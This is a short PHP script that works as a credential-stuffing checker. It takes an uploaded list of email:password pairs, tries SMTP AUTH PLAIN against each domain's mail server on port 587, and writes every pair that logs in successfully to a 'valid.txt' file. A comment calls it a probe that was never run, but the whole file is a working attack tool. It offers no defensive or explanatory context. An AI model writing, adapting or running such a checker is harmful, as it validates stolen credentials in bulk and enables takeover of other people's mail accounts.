<?php
// probe (never run): SMTP AUTH PLAIN tried for every address:password line of an uploaded list
$ok = fopen('valid.txt', 'a');
foreach (file($_FILES['combo']['tmp_name']) as $combo) {
    list($mail, $pass) = explode(':', trim($combo), 2);
    $dom = substr(strrchr($mail, '@'), 1);
    $c = @stream_socket_client('tcp://mail.' . $dom . ':587', $en, $es, 5);
    if (!$c) continue;
    fgets($c);
    fwrite($c, "EHLO localhost\r\n");
    while ($l = fgets($c)) { if ($l[3] == ' ') break; }
    fwrite($c, 'AUTH PLAIN ' . base64_encode("\0$mail\0$pass") . "\r\n");
    if (strpos(fgets($c), '235') === 0) fwrite($ok, "mail.$dom|587|$mail|$pass\n");
    fclose($c);
}
